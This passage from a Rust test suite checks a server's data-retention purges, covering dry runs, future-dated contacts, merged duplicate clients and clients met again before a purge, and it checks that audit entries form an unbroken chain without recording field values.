    let later = server.clock.now();

    let store: &dyn ServerStore = server.store.as_ref();
    let dry = run_retention(
        store,
        RetentionPolicy::default(),
        later,
        AuditActor::System,
        true,
    )
    .await
    .unwrap();
    let mut due = vec![quiet, old];
    due.sort_unstable();
    assert_eq!(dry.expired_clients, due);
    assert!(dry.purged.is_empty(), "a dry run purges nothing");

    let run = run_retention(
        store,
        RetentionPolicy::default(),
        later,
        AuditActor::System,
        false,
    )
    .await
    .unwrap();
    assert_eq!(run.expired_clients, due);
    let purged: Vec<&PulledPurge> = run.purged.iter().collect();
    assert_eq!(
        purged.len(),
        3,
        "two clients and the old contact: {purged:?}"
    );
    let page = server.pull(&lead, 0, 1000).await;
    let pulled: Vec<Uuid> = page.purges.iter().map(|p| p.record_id).collect();
    assert!(pulled.contains(&quiet) && pulled.contains(&old));
    assert!(!pulled.contains(&recent));
    assert!(page.changes.iter().any(|c| c.record_id == recent));

    let purges = audit_entries_of(&server, &lead, "purge").await;
    assert_eq!(purges.len(), 1, "{purges:?}");
    let purge = &purges[0];
    assert_eq!(purge.actor, "system");
    assert!(
        purge.detail.starts_with("retention: clients=2 records=3"),
        "{purge:?}"
    );
    assert!(purge.detail.contains(&old.to_string()));
    assert!(!purge.detail.contains("Old") && !purge.detail.contains("Quiet"));

    // Nothing more is due.
    let again = run_retention(
        store,
        RetentionPolicy::default(),
        later,
        AuditActor::System,
        false,
    )
    .await
    .unwrap();
    assert!(again.expired_clients.is_empty());
}

both_backends!(a_contact_dated_in_the_future_counts_from_when_the_server_stored_its_date);
async fn a_contact_dated_in_the_future_counts_from_when_the_server_stored_its_date(
    backend: Backend,
) {
    let server = start(backend).await;
    let a = server.login("coach_a").await;
    let lead = server.login("lead_n").await;
    // 2026-01-15: a coach logs two visits and mistypes the year of both (2095 for 2025).
    let (mistyped, _) = create_client(&server, &a, &[("given_name", json!("Mistyped"))]).await;
    let (corrected, _) = create_client(&server, &a, &[("given_name", json!("Corrected"))]).await;
    let typo = push_contact_at(&server, &a, mistyped, "2095-05-02T10:00:00+03:00").await;
    let (fixed, fixed_version) = push_contact_with_version(
        &server,
        &a,
        corrected,
        ("occurred_at", "2095-05-02T10:00:00+03:00"),
    )
    .await;
    // Three years on, the other client is met and the coach re-dates that old contact to
    // the visit of the day: the date counts from when the server stored it (2029). The
    // summary of the mistyped one is written then too: no contact, and its date stays 2095.
    server.clock.advance_ms(SIX_YEARS_MS / 2);
    let then_ms = tandem_server::clock::to_ms(server.clock.now());
    let written = server
        .push(
            &a,
            vec![
                change(
                    &a,
                    "contact",
                    fixed,
                    "occurred_at",
                    json!("2029-01-14T10:00:00+02:00"),
                    fixed_version,
                    then_ms,
                ),
                change(&a, "contact", typo, "summary", json!("Notes"), 0, then_ms),
            ],
        )
        .await;
    assert!(
        written.iter().all(|r| r.status == ChangeStatus::Applied),
        "{written:?}"
    );

    // Six years after the typo: the contact dated 2095 counts from 2026, when the server
    // stored its date (not from its later summary), so its client is due; the re-dated one
    // counts from 2029, kept.
    server.clock.advance_ms(SIX_YEARS_MS / 2);
    let later = server.clock.now();
    let cutoff = RetentionPolicy::default().cutoff(later);
    let store: &dyn ServerStore = server.store.as_ref();
    assert_eq!(due_clients(store, later).await, vec![mistyped]);
    // The purge's own judgement in its transaction agrees, also about a client named to it
    // that is not due.
    let purged = purge_clients_due(
        store,
        vec![mistyped, corrected],
        cutoff,
        AuditActor::System,
        later,
    )
    .await
    .unwrap();
    let mut purged: Vec<Uuid> = purged.iter().map(|p| p.record_id).collect();
    purged.sort_unstable();
    let mut expected = vec![mistyped, typo];
    expected.sort_unstable();
    assert_eq!(purged, expected);
    let kept = kept_records(&server, &lead).await;
    for record in [corrected, fixed] {
        assert!(kept.contains(&record), "{record} kept");
    }
    audit_chain(&server).await;
}

both_backends!(a_client_met_again_after_retention_read_its_facts_is_not_purged);
async fn a_client_met_again_after_retention_read_its_facts_is_not_purged(backend: Backend) {
    let server = start(backend).await;
    let a = server.login("coach_a").await;
    let lead = server.login("lead_n").await;
    let (back, _) = create_client(&server, &a, &[("given_name", json!("Back"))]).await;
    let (gone, _) = create_client(&server, &a, &[("given_name", json!("Gone"))]).await;
    let old_visit = push_contact_at(&server, &a, back, "2019-05-02T10:00:00+03:00").await;
    push_contact_at(&server, &a, gone, "2019-06-03T10:00:00+03:00").await;
    server.clock.advance_ms(SIX_YEARS_MS);
    let later = server.clock.now();
    let cutoff = RetentionPolicy::default().cutoff(later);

    // Retention reads who is due: both clients, last met in 2019.
    let store: &dyn ServerStore = server.store.as_ref();
    let mut due = vec![back, gone];
    due.sort_unstable();
    assert_eq!(due_clients(store, later).await, due);
    // Before it purges, one of them comes back and a coach's laptop pushes the new contact.
    let new_visit = push_contact_at(&server, &a, back, "2031-12-20T10:00:00+02:00").await;

    // The purge, given the list read before, judges each client again in its transaction.
    let purged = purge_clients_due(store, due, cutoff, AuditActor::System, later)
        .await
        .unwrap();
    let purged: Vec<Uuid> = purged.iter().map(|p| p.record_id).collect();
    assert!(purged.contains(&gone), "{purged:?}");
    assert_eq!(
        purged.len(),
        2,
        "the client due and its contact: {purged:?}"
    );
    let kept: Vec<Uuid> = server
        .pull_all(&lead)
        .await
        .iter()
        .map(|c| c.record_id)
        .collect();
    for record in [back, old_visit, new_visit] {
        assert!(kept.contains(&record), "{record} kept");
    }
    // The purge entry names only what was purged.
    let purges = audit_entries_of(&server, &lead, "purge").await;
    assert_eq!(purges.len(), 1, "{purges:?}");
    assert!(
        purges[0]
            .detail
            .starts_with("retention: clients=1 records=2"),
        "{purges:?}"
    );
    assert!(purges[0].detail.contains(&gone.to_string()));
    assert!(!purges[0].detail.contains(&back.to_string()));
    assert!(!purges[0].detail.contains(&old_visit.to_string()));

    // A run now finds nobody due, and one with only the returning client purges nothing.
    assert!(due_clients(store, later).await.is_empty());
    let none = purge_clients_due(store, vec![back], cutoff, AuditActor::System, later)
        .await
        .unwrap();
    assert!(none.is_empty(), "{none:?}");
    audit_chain(&server).await;
}

/// Runs retention at the server's clock; the clients it found due and the records it purged.
async fn retention_now(server: &TestServer) -> (Vec<Uuid>, Vec<Uuid>) {
    let report = run_retention(
        server.store.as_ref(),
        RetentionPolicy::default(),
        server.clock.now(),
        AuditActor::System,
        false,
    )
    .await
    .unwrap();
    let mut purged: Vec<Uuid> = report.purged.iter().map(|p| p.record_id).collect();
    purged.sort_unstable();
    (report.expired_clients, purged)
}

/// How many of the lead's team's merges stand (not undone, so they can still be undone).
async fn merge_count(server: &TestServer, lead: &Device) -> usize {
    server
        .get_ok::<DuplicateMergeList>("/v1/duplicates/merges", lead)
        .await
        .merges
        .iter()
        .filter(|merge| merge.undone_at.is_none())
        .count()
}

both_backends!(a_duplicate_is_judged_by_the_client_it_was_merged_into_and_purged_with_it);
async fn a_duplicate_is_judged_by_the_client_it_was_merged_into_and_purged_with_it(
    backend: Backend,
) {
    let server = start(backend).await;
    let a = server.login("coach_a").await;
    let lead = server.login("lead_n").await;
    // One person registered three times; in 2026 the lead merges the third into the second
    // and the second into the first: a chain of merges.
    let (person, _) = create_client(&server, &a, &[("given_name", json!("Aino"))]).await;
    let (second, _) = create_client(&server, &a, &[("given_name", json!("Aino K"))]).await;
    let (third, _) = create_client(&server, &a, &[("given_name", json!("Aino K."))]).await;
    let old_visit = push_contact_at(&server, &a, second, "2019-05-02T10:00:00+03:00").await;
    for (survivor, duplicate) in [(second, third), (person, second)] {
        let reply = merge(&server, &lead, survivor, duplicate).await;
        assert_eq!(reply.status, StatusCode::OK, "{}", reply.body);
    }

    // Six years on the person is met again: the duplicates, whose own last write is the
    // merge in 2026, are the person's, not due; both merges can still be undone.
    server.clock.advance_ms(SIX_YEARS_MS);
    let met = push_contact_at(&server, &a, person, "2031-12-20T10:00:00+02:00").await;
    let cutoff = RetentionPolicy::default().cutoff(server.clock.now());
    assert!(
        due_clients(server.store.as_ref(), server.clock.now())
            .await
            .is_empty()
    );
    // A purge given the duplicates by name (a list read before the merge) leaves them too.
    let named = purge_clients_due(
        server.store.as_ref(),
        vec![second, third],
        cutoff,
        AuditActor::System,
        server.clock.now(),
    )
    .await
    .unwrap();
    assert!(named.is_empty(), "{named:?}");
    assert_eq!(retention_now(&server).await, (vec![], vec![]));
    assert_eq!(merge_count(&server, &lead).await, 2);

    // Six years later the person's own last contact (2031) is past the period, but a contact
    // a laptop filed under a duplicate after the merge (recorded offline) is recent: it is
    // the person's, so nobody is purged.
    server.clock.advance_ms(SIX_YEARS_MS);
    let late = push_contact_at(&server, &a, third, "2037-12-20T10:00:00+02:00").await;
    assert_eq!(retention_now(&server).await, (vec![], vec![]));
    assert_eq!(merge_count(&server, &lead).await, 2);

    // Once the person is past the period, the duplicates go with it, in one purge.
    server.clock.advance_ms(SIX_YEARS_MS);
    let (due, purged) = retention_now(&server).await;
    assert_eq!(due, vec![person]);
    let mut all = vec![person, second, third, old_visit, met, late];
    all.sort_unstable();
    assert_eq!(purged, all);
    assert_eq!(merge_count(&server, &lead).await, 0);
    let purges = audit_entries_of(&server, &lead, "purge").await;
    assert_eq!(purges.len(), 1, "{purges:?}");
    assert!(
        purges[0]
            .detail
            .starts_with("retention: clients=3 records=6"),
        "{purges:?}"
    );
    audit_chain(&server).await;
}

/// The ids of every record the lead's team pulls (what is kept).
async fn kept_records(server: &TestServer, lead: &Device) -> Vec<Uuid> {
    server
        .pull_all(lead)
        .await
        .iter()
        .map(|c| c.record_id)
        .collect()
}

/// A person retention has found due, with a duplicate merged into it.
struct MergedPersonDue {
    person: Uuid,
    duplicate: Uuid,
    /// The person's own contact and the duplicate's, both in 2019 (the duplicate's moved to
    /// the person by the merge).
    visits: [Uuid; 2],
    merge_id: Uuid,
    cutoff: chrono::DateTime<chrono::Utc>,
}

/// Two clients met in 2019; in 2026 the lead merges the second into the first (its contact
/// moves). Six years on, retention reads who is due: the person, with the duplicate.
async fn a_merged_person_found_due(
    server: &TestServer,
    a: &Device,
    lead: &Device,
) -> MergedPersonDue {
    let (person, _) = create_client(server, a, &[("given_name", json!("Aino"))]).await;
    let (duplicate, _) = create_client(server, a, &[("given_name", json!("Aina"))]).await;
    let own_visit = push_contact_at(server, a, person, "2019-05-02T10:00:00+03:00").await;
    let their_visit = push_contact_at(server, a, duplicate, "2019-06-03T10:00:00+03:00").await;
    let reply = merge(server, lead, person, duplicate).await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.body);
    let merge_id = reply.json::<DuplicateMergeResponse>().merge.id;
    server.clock.advance_ms(SIX_YEARS_MS);
    let cutoff = RetentionPolicy::default().cutoff(server.clock.now());
    assert_eq!(
        due_clients(server.store.as_ref(), server.clock.now()).await,
        vec![person]
    );
    MergedPersonDue {
        person,
        duplicate,
        visits: [own_visit, their_visit],
        merge_id,
        cutoff,
    }
}

/// The purge of the clients found due, at the server's clock; the ids it erased, in order.
async fn purge_now(
    server: &TestServer,
    due: Vec<Uuid>,
    cutoff: chrono::DateTime<chrono::Utc>,
) -> Vec<Uuid> {
    let purged = purge_clients_due(
        server.store.as_ref(),
        due,
        cutoff,
        AuditActor::System,
        server.clock.now(),
    )
    .await
    .unwrap();
    let mut ids: Vec<Uuid> = purged.iter().map(|p| p.record_id).collect();
    ids.sort_unstable();
    ids
}

both_backends!(a_contact_filed_under_a_duplicate_after_retention_read_its_facts_keeps_the_person);
async fn a_contact_filed_under_a_duplicate_after_retention_read_its_facts_keeps_the_person(
    backend: Backend,
) {
    let server = start(backend).await;
    let a = server.login("coach_a").await;
    let lead = server.login("lead_n").await;
    let due = a_merged_person_found_due(&server, &a, &lead).await;
    // Before the purge, a laptop that had not pulled the merge pushes today's contact filed
    // under the duplicate: the person was met, so the purge's own judgement in its
    // transaction must count it (through the clients merged into the person).
    let today = push_contact_at(&server, &a, due.duplicate, "2031-12-20T10:00:00+02:00").await;
    let purged = purge_now(&server, vec![due.person], due.cutoff).await;
    assert!(purged.is_empty(), "{purged:?}");
    let kept = kept_records(&server, &lead).await;
    for record in [
        due.person,
        due.duplicate,
        due.visits[0],
        due.visits[1],
        today,
    ] {
        assert!(kept.contains(&record), "{record} kept");
    }
    assert_eq!(
        merge_count(&server, &lead).await,
        1,
        "the merge can be undone"
    );
    assert!(audit_entries_of(&server, &lead, "purge").await.is_empty());
    audit_chain(&server).await;
}

both_backends!(a_merge_undone_after_retention_read_its_facts_leaves_the_duplicate_to_its_own_run);
async fn a_merge_undone_after_retention_read_its_facts_leaves_the_duplicate_to_its_own_run(
    backend: Backend,
) {
    let server = start(backend).await;
    let a = server.login("coach_a").await;
    let lead = server.login("lead_n").await;
    let due = a_merged_person_found_due(&server, &a, &lead).await;
    // Before the purge, the lead undoes the merge (two people after all): the duplicate's
    // contact goes back to it.
    let reply = undo(&server, &lead, due.merge_id).await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.body);
    // The purge erases the person and its own contact; the duplicate is no longer its.
    let mut erased = vec![due.person, due.visits[0]];
    erased.sort_unstable();
    assert_eq!(
        purge_now(&server, vec![due.person], due.cutoff).await,
        erased
    );
    let kept = kept_records(&server, &lead).await;
    for record in [due.duplicate, due.visits[1]] {
        assert!(kept.contains(&record), "{record} kept");
    }
    // A later run judges the duplicate on its own last contact (2019; the undo is no
    // contact): due, it goes with that contact.
    let mut theirs = vec![due.duplicate, due.visits[1]];
    theirs.sort_unstable();
    assert_eq!(retention_now(&server).await, (vec![due.duplicate], theirs));
    audit_chain(&server).await;
}

both_backends!(a_dry_run_of_retention_names_the_duplicates_that_go_with_the_clients_due);
async fn a_dry_run_of_retention_names_the_duplicates_that_go_with_the_clients_due(
    backend: Backend,
) {
    let server = start(backend).await;
    let a = server.login("coach_a").await;
    let lead = server.login("lead_n").await;
    // A person last met in 2019, registered twice and merged: more than five years before
    // the real clock the binary reads as well, so due, with the duplicate.
    let due = a_merged_person_found_due(&server, &a, &lead).await;
    let (person, duplicate) = (due.person, due.duplicate);
    let records = [person, duplicate, due.visits[0], due.visits[1]];

    // The dry run names both, the duplicate as merged into the client due, and counts them.
    let (ok, printed) =
        admin_with_the_binary(&server.database, &["retention", "run", "--dry-run"]).await;
    assert!(ok, "{printed}");
    let lines: Vec<&str> = printed.lines().collect();
    assert_eq!(lines[0], person.to_string(), "{printed}");
    assert_eq!(
        lines[1],
        format!("{duplicate}\tmerged into {person}"),
        "{printed}"
    );
    assert!(
        lines[2].starts_with("1 clients last active before ")
            && lines[2].ends_with(", and 1 duplicates merged into them; dry run, nothing purged"),
        "{printed}"
    );
    assert!(
        lines[2].contains(
            "a contact counts from its date, or, dated in the future, from when the server stored it"
        ),
        "the summary says how a contact's time is judged: {printed}"
    );
    let kept = kept_records(&server, &lead).await;
    for record in records {
        assert!(kept.contains(&record), "{record} kept: nothing purged");
    }

    // The run purges what the dry run named: its report and the audit entry say as much.
    let (ok, printed) = admin_with_the_binary(&server.database, &["retention", "run"]).await;
    assert!(ok, "{printed}");
    assert!(
        printed.contains(", and 1 duplicates merged into them; 4 records purged"),
        "{printed}"
    );
    let purges = audit_entries_of(&server, &lead, "purge").await;
    assert_eq!(purges.len(), 1, "{purges:?}");
    assert!(
        purges[0]
            .detail
            .starts_with("retention: clients=2 records=4"),
        "{purges:?}"
    );
    for record in records {
        assert!(purges[0].detail.contains(&record.to_string()), "{purges:?}");
    }
}

both_backends!(sign_ins_changes_resolutions_and_pulls_are_audited_without_values);
async fn sign_ins_changes_resolutions_and_pulls_are_audited_without_values(backend: Backend) {
    let server = start(backend).await;
    let a = server.login("coach_a").await;
    let b = server.login("coach_b").await;
    let lead = server.login("lead_n").await;
    let (client, _) = seed_marked_client(&server, &a, &b).await;
    // A repeated push (a lost answer) changes nothing, so it adds no entry either.
    let repeat = vec![change(
        &a,
        "client",
        client,
        "nickname",
        json!("Zed"),
        0,
        NOW_MS + 50,
    )];
    server.push(&a, repeat.clone()).await;
    let before = server
        .store
        .audit_entries(AuditFilter {
            after: 0,
            limit: 1000,
            team_id: None,
            record_id: None,
        })
        .await
        .unwrap()
        .len();
    server.push(&a, repeat).await;
    server.pull(&lead, 0, 1000).await;

    let entries = audit_chain(&server).await;
    assert_eq!(entries.len(), before + 1, "only the pull was added");
    for entry in &entries {
        assert!(!entry.detail.contains(MARKER), "{entry:?}");
        assert!(!entry.detail.contains("Zed"), "{entry:?}");
    }
    let count = |action: &str| entries.iter().filter(|e| e.action == action).count();
    assert_eq!(
        count("login"),
        4,
        "three here, one more in seed_marked_client"
    );
    assert_eq!(count("resolve"), 1);
    assert_eq!(count("read"), 1);
    let changes: Vec<_> = entries
        .iter()
        .filter(|e| e.action == "change" && e.record_id == Some(client))
        .collect();
    assert!(changes.len() >= 5, "{changes:?}");
    assert!(
        changes[0].detail.contains("family_name,given_name,notes"),
        "{:?}",
        changes[0]
    );
    assert!(changes[0].actor.contains(&a.user_id.to_string()));
    assert!(changes[0].actor.contains(&a.id.to_string()));
    let read = entries.iter().find(|e| e.action == "read").unwrap();
    assert!(read.actor.contains(&lead.id.to_string()));
    assert!(read.detail.starts_with("pull: records="), "{read:?}");
}

/// Every audit entry of the server, after checking that they form one unbroken chain.
async fn audit_chain(server: &TestServer) -> Vec<StoredAuditEntry> {
    let entries = server
        .store
        .audit_entries(AuditFilter {
            after: 0,
            limit: 1000,
            team_id: None,
            record_id: None,
        })
        .await
        .unwrap();
    let mut walker = ChainWalker::default();
    for entry in &entries {
        walker.check(entry).unwrap();
    }
    entries
}
